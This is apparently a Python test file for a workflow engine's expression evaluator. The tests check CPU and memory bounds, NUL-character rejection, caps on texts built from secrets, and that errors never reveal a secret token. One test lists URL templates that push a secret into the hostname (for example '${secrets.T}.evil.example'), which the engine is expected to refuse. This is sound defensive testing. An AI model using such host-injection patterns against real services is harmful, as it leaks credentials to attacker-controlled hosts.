"""Whatever the definition and the data: a decision ends soon, stores little, and shows nothing of a secret.

Work is bounded by what was spent and kept, or by processor time: a bound there is at least 20 times what it takes, for
what it keeps out takes minutes. Never by the clock on the wall.
"""

from __future__ import annotations

import random
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import datetime, timedelta
from threading import Thread
from typing import Any, cast

import msgspec
import pytest

from engine.cel import EvaluationError
from engine.core.compile import compile_definition
from engine.core.definition import parse_definition
from engine.core.flow import expression_failed
from engine.core.request import MAX_DERIVED, MAX_DERIVED_TEXT, http_request
from engine.errors import Finding, InvalidDefinition
from engine.executors.http_request import HttpRequest
from engine.executors.refusals import RequestInvalid
from engine.hold import MOST_PAYLOADS, Hold
from engine.queue import Claimed, Loaded
from tests.unit.core.given import NOW, document, http, lived, manual, transform, wait

SECRET = "s3cr3t-v4lue-of-a-token"
TINY: list[Any] = [[] for _ in range(340_000)]  # a mebibyte of JSON that takes 20 times as much memory, and much work
MOST_CPU = 5  # seconds


@contextmanager
def little_work() -> Iterator[None]:
    begin = time.process_time()
    yield
    assert time.process_time() - begin < MOST_CPU


def request(config: dict[str, Any], value: Any = None) -> dict[str, Any]:
    life = lived(http("a", config={"url": "https://h.example/x", **config}), value=value)
    return http_request(life.plan, life.state, "a", life.inputs, {"T": SECRET, "LINES": f"{SECRET}\n{SECRET}"})


def refused(config: dict[str, Any], value: Any = None) -> EvaluationError:
    """Return the error of a request that cannot be made, after looking for the secret in all that it tells."""
    with pytest.raises(EvaluationError) as raised:
        request(config, value)
    fault = raised.value
    told = f"{fault} {fault!r} {fault.message} {fault.path} {fault.expression} {fault.excerpt} {fault.pointer}"
    stored = msgspec.json.encode(expression_failed(fault, "a", "config")).decode()
    for part in (SECRET, SECRET.upper(), SECRET[:6]):
        assert part not in told + stored
    return fault


# ---- work


def test_a_loop_of_errors_in_a_condition_is_soon_over() -> None:
    condition = "cel.bind(x, 1 / input.zero, input.list.exists(y, x > y))"
    with little_work():
        life = lived(transform("t", condition=condition), value={"zero": 0, "list": [1] * 15_000})
    assert life.activity("t").error.message == "division by zero"


def test_a_loop_of_errors_beside_a_secret_is_soon_over() -> None:
    long = ", ".join(["1"] * 2600)
    faults = "${input.map(x, x / 0 > 1 || true).size() + [" + long + "].size()}"
    with little_work():
        fault = refused({"query": {"token": "${secrets.T}", "faults": faults}}, [1] * 15_000)
    assert "too much work" in fault.message


@pytest.mark.parametrize("kind", ["transform", "event"])
def test_a_hundred_steps_that_store_a_mebibyte_of_tiny_lists_store_little_together(kind: str) -> None:
    config = {"mapping": {"a": "${input}"}} if kind == "transform" else {"name": "x", "payload": {"a": "${input}"}}
    life = lived(*({"id": f"s{i}", "type": kind, "config": config} for i in range(100)), value=TINY)
    assert (life.state.status, life.state.error.code) == ("FAILED", "expression_failed")
    assert "too much work" in life.state.error.message
    assert len(life.payloads) < 5


def test_the_output_of_a_process_is_paid_for_like_that_of_a_step() -> None:
    life = lived(transform("t", {"a": "${input}"}), value=TINY, output="${input}")
    assert (life.status("t"), life.state.status, life.state.output_ref) == ("COMPLETED", "FAILED", None)
    assert "too much work" in life.state.error.message
    assert len(life.payloads) == 1


def test_a_step_that_stores_a_mebibyte_of_ordinary_data_and_a_process_that_returns_it_are_no_crime() -> None:
    orders = [{"id": i, "name": "x" * 200, "lines": [1, 2, 3]} for i in range(4000)]
    life = lived(transform("t", {"a": "${input}"}), value=orders, output="${steps.t.output}")
    assert life.state.status == "COMPLETED"


# ---- values over 8 KB, one after the other


class _Alarm:
    def cancel(self) -> None:
        """There is nothing that could ring."""


class _Desk:
    """The session of one hold: what is to be loaded waits in `wanted`."""

    def __init__(self, moment: datetime) -> None:
        self.moment = moment
        self.wanted: list[int] = []

    def now(self) -> datetime:
        return self.moment

    def jitter(self) -> float:
        return 0.5

    def dirty(self, hold: Hold) -> None:
        pass

    def fetch(self, _hold: Hold, n: int) -> None:
        self.wanted.append(n)

    def wake_at(self, _due: datetime, _wake: Callable[[], None]) -> Any:
        return _Alarm()

    def trouble(self, _hold: Hold, where: str, error: Exception) -> None:
        raise AssertionError(where) from error


def loaded(count: int) -> tuple[Hold, list[int]]:
    """Return a process whose last step reads `count` large values, held by a worker who had none; what it loaded."""
    sizes = {f"k{i}": f"${{steps.s{i}.output.a.size()}}" for i in range(count)}
    steps = [transform(f"s{i}", {"a": "${input}"}) for i in range(count)]
    life = lived(*steps, wait("w", seconds=60), transform("e", sizes), value=["x" * 20] * 680)
    assert (life.state.status, sorted(life.payloads)) == ("WAITING", list(range(1, count + 1)))
    desk = _Desk(NOW + timedelta(seconds=120))
    hold = Hold(cast("Any", desk), Claimed(1, 1, 1), Loaded(1, 1, 1, 0, 0, life.state.seq, ()), life.state, life.plan)
    hold.open()
    assert len(desk.wanted) == count, "all at once: the decision is made twice, not once for each"
    found: list[int] = []
    while desk.wanted and len(found) < 10 * count:
        found.append(desk.wanted.pop())
        hold.fetched(found[-1], life.payloads[found[-1]])
    return hold, found


@pytest.mark.parametrize("count", [31, 32, 33, 40])
def test_a_decision_that_reads_many_large_values_loads_each_once_and_ends(count: int) -> None:
    hold, found = loaded(count)
    assert sorted(found) == list(range(1, count + 1))
    assert hold.state.status == "COMPLETED"
    assert hold.state.activities["e"].output == {f"k{i}": 680 for i in range(count)}


def test_a_hold_lets_go_of_large_values_when_its_decision_is_made() -> None:
    hold, _ = loaded(40)
    assert len(hold.payloads) == MOST_PAYLOADS


# ---- what PostgreSQL cannot store


@pytest.mark.parametrize(
    ("step", "field"),
    [
        (manual("a", title='${"a\\u0000b"}'), "title"),
        (manual("a", title='a${"\\x00"}b'), "title"),
        (manual("a", assignee='${"\\u0000"}'), "assignee"),
        (manual("a", group='x${"\\000"}'), "group"),
        (wait("a", signal='${"a\\u0000"}'), "signal"),
        (wait("a", signal="s", correlation_key='x${"\\x00"}'), "correlation_key"),
    ],
)
def test_a_text_with_a_nul_character_fails_its_step(step: dict[str, Any], field: str) -> None:
    life = lived(step)
    error = life.activity("a").error
    assert (life.status("a"), error.code, error.step_id) == ("FAILED", "expression_failed", "a")
    assert error.details["pointer"] == f"/steps/0/config/{field}"
    assert "NUL" in error.message


# ---- what is made of secrets


def _pieces(count: int) -> str:
    return "${[" + ", ".join(f'secrets.T + "{i}"' for i in range(count)) + "]}"


def _padded(length: int) -> str:
    return '${secrets.T + "' + "x" * (length - len(SECRET)) + '"}'


def test_as_many_and_as_long_texts_as_are_allowed_can_be_made_of_secrets() -> None:
    assert request({"body": _pieces(MAX_DERIVED)})["derived"] == [f"{SECRET}{i}" for i in range(MAX_DERIVED)]
    [made] = request({"body": _padded(MAX_DERIVED_TEXT)})["derived"]
    assert len(made) == MAX_DERIVED_TEXT


@pytest.mark.parametrize("config", [
    {"method": "POST", "body": _pieces(MAX_DERIVED + 1)},
    {"method": "POST", "body": {"a": _pieces(MAX_DERIVED // 2), "b": {"c": _pieces(MAX_DERIVED // 2 + 1)}}},
    {"method": "POST", "query": {"q": _pieces(MAX_DERIVED // 2)}, "body": _pieces(MAX_DERIVED // 2 + 1)},
    {"query": {"q": '${secrets.T.split("")}'}},
    {"query": {"q": _padded(MAX_DERIVED_TEXT + 1)}},
    {"headers": {"X-A": _padded(MAX_DERIVED_TEXT + 1)}},
    {"url": "https://h.example/" + _padded(MAX_DERIVED_TEXT + 1)},
    {"method": "POST", "body": '${input.map(x, secrets.T + x)}'},
])  # fmt: skip
def test_more_or_longer_texts_made_of_secrets_are_an_error_that_shows_none(config: dict[str, Any]) -> None:
    fault = refused(config, ["a" * 40] * 1000)
    assert f"at most {MAX_DERIVED} texts of {MAX_DERIVED_TEXT} characters" in fault.message


def test_an_idempotency_key_made_of_a_secret_is_one_itself() -> None:
    found = request({"idempotency_key": "${hash.sha256(secrets.T)}"})
    assert found["derived"] == [found["idempotency_key"]]
    assert found["secret_headers"] == ("Idempotency-Key",)
    assert request({"idempotency_key": "order ${secrets.T}"})["secret_headers"] == ("Idempotency-Key",)
    assert request({"idempotency_key": "order ${input}"}, 1)["secret_headers"] == ()


@pytest.mark.parametrize("body", [
    "${ {hash.sha256(secrets.T): 1} }",
    "${ {'a': [{hash.sha256(secrets.T): 1}]} }",
    {"a": ["${ {hash.sha256(secrets.T): null} }"]},
])  # fmt: skip
def test_keys_of_objects_made_of_a_secret_are_secret(body: Any) -> None:
    [digest] = request({"body": "${ [hash.sha256(secrets.T)] }"})["body"]
    assert digest in request({"method": "POST", "body": body})["derived"]


@pytest.mark.parametrize("config", [
    {"body": '${ {secrets.T: double("NaN")} }'},
    {"body": '${ {"a": [{secrets.T: double("Infinity")}]} }'},
    {"body": '${ {secrets.T: "a\\u0000"} }'},
    {"body": '${ {secrets.T: {secrets.T: [secrets.T]}} }', "body_type": "form"},
    {"body": "${ {secrets.T: [[secrets.T]]} }", "body_type": "form"},
    {"body": "${ {secrets.T: [{secrets.T: 1}]} }", "body_type": "form"},
    {"body": {"a": "${ {secrets.T: 1} }"}, "body_type": "form"},
    {"body": "${ {secrets.T: secrets.T} }", "body_type": "text"},
    {"query": {"q": "${ {secrets.T: secrets.T} }"}},
    {"query": {"q": ["${ [secrets.T] }"]}},
    {"headers": {"X-A": "${ {secrets.T: secrets.T} }"}},
    {"headers": {"X-A": "${ [secrets.T] }"}},
    {"headers": {"X-A": "${secrets.LINES}"}},
    {"idempotency_key": "${ {secrets.T: secrets.T} }"},
    {"idempotency_key": "${secrets.LINES}"},
])  # fmt: skip
def test_an_error_about_a_value_beside_a_secret_shows_neither_key_nor_value(config: dict[str, Any]) -> None:
    refused({"method": "POST", **config})


# ---- where a secret is sent


@pytest.mark.parametrize(
    ("url", "value"),
    [
        ('${"https:/"}/${secrets.T}.evil.example/x', None),
        ("${input}/${secrets.T}/x", "https:/"),
        ("${input}/${secrets.T}/x", "http:/"),
        ("${input}/${secrets.T}/x", "HTTPS:/"),
        ("${input}/${secrets.T}/x", "https://"),
        ("${input}/${secrets.T}/x", "https:///"),
        ("${input}/${secrets.T}/x", ""),
        ("${input}/h/${secrets.T}", "https:/"),
        ('${input}/${secrets.T + ".evil.example"}/x', "https:/"),
    ],
)
def test_a_secret_cannot_become_part_of_the_host(url: str, value: Any) -> None:
    assert refused({"url": url}, value).pointer == "/steps/0/config/url"


def test_an_empty_host_does_not_make_one_of_the_secret_behind_it() -> None:
    config = request({"url": "https://${input}/${secrets.T}"}, "")
    with pytest.raises(RequestInvalid) as fault:
        HttpRequest.from_config(config, "id", redact=(SECRET,))
    assert SECRET not in str(fault.value)


@pytest.mark.parametrize(
    ("url", "value", "sent"),
    [
        ("https://h/${secrets.T}", None, f"https://h/{SECRET}"),
        ("HTTPS://h/${secrets.T}", None, f"HTTPS://h/{SECRET}"),
        ("${input}/${secrets.T}", "https://h", f"https://h/{SECRET}"),
        ("${input}/${secrets.T}", "https://h/a", f"https://h/a/{SECRET}"),
        ("${input}/${secrets.T}", "https://h:8443/a", f"https://h:8443/a/{SECRET}"),
        ("${input}?key=${secrets.T}", "http://h", f"http://h?key={SECRET}"),
    ],
)
def test_a_secret_may_stand_in_path_and_query(url: str, value: Any, sent: str) -> None:
    config = request({"url": url}, value)
    assert config["url"] == sent
    assert HttpRequest.from_config(config, "id").target.host == "h"


# ---- documents


def findings(value: Any) -> tuple[Finding, ...]:
    with pytest.raises(InvalidDefinition) as fault:
        parse_definition(value)
    return fault.value.findings


def _like(seed: int) -> str:
    """Return a name of 61 letters that is like all others, and so hard to compare."""
    letters = list("ab" * 30)
    random.Random(seed).shuffle(letters)
    return "s" + "".join(letters)


def test_unknown_steps_with_long_names_are_findings_and_little_work() -> None:
    reads = "${[" + ", ".join([f"steps.{_like(1000)}.output"] * 105) + "]}"
    steps = [transform(_like(i), {"a": reads if i < 16 else 1}) for i in range(100)]
    with little_work():
        found = findings(document(*steps))
    assert 0 < len(found) <= 200
    assert "there is no step" in found[0].message


def test_unknown_dependencies_with_long_names_are_findings_and_little_work() -> None:
    steps = [transform(_like(i), depends_on=[_like(1000 + 50 * i + n) for n in range(50)]) for i in range(100)]
    with little_work():
        found = findings(document(*steps))
    assert len(found) == 200


def test_unknown_functions_with_long_names_are_findings_and_little_work() -> None:
    calls = "${[" + ", ".join([f"{_like(i)}(1)" for i in range(110)]) + "]}"
    with little_work():
        found = findings(document(*(transform(f"s{i}", {"a": calls}) for i in range(16))))
    assert 0 < len(found) <= 200
    assert "there is no function" in found[0].message


def test_unknown_fields_with_long_names_are_findings_and_little_work() -> None:
    fields: dict[str, Any] = {_like(i): 1 for i in range(1000)}
    with little_work():
        found = findings(document(**fields))
    assert len(found) == 200


def _below(levels: int, work: Callable[[], Any]) -> Any:
    return work() if levels == 0 else _below(levels - 1, work)


def _outcome(value: Any, depth: int) -> Any:
    """Return how a document is read by a caller whose stack is `depth` frames deep: findings, None, or the error."""
    found: list[Any] = []

    def read() -> None:
        try:
            found.append(_below(depth, lambda: compile_definition(parse_definition(value))) and None)
        except InvalidDefinition as fault:
            found.append(fault.findings)
        except RecursionError as fault:
            found.append(fault)

    thread = Thread(target=read)  # whose stack is empty, unlike that of a test
    thread.start()
    thread.join()
    return found[0]


def _nested(levels: int) -> dict[str, Any]:
    value: Any = "${cel.bind(x, input.o, x" + ".a" * 246 + ")}"
    for level in range(levels):
        value = {"a": value} if level % 2 else [value]
    return document(transform("t", {"m": value}))


@pytest.mark.parametrize("depth", [0, 100, 200, 300])
def test_a_document_that_is_too_deep_is_refused_however_deep_its_caller(depth: int) -> None:
    [finding] = _outcome(_nested(61), depth)
    assert finding.code == "too_deep"


@pytest.mark.parametrize("depth", [0, 100, 200, 300])
def test_a_deep_expression_in_a_deep_document_is_read_or_refused_however_deep_its_caller(depth: int) -> None:
    outcome = _outcome(_nested(59), depth)
    if outcome is None:
        assert depth < 300
    else:
        [finding] = outcome
        assert (finding.code, finding.pointer) == ("expression_invalid", "/steps/0/config/mapping")
        assert "nested too deep" in finding.message
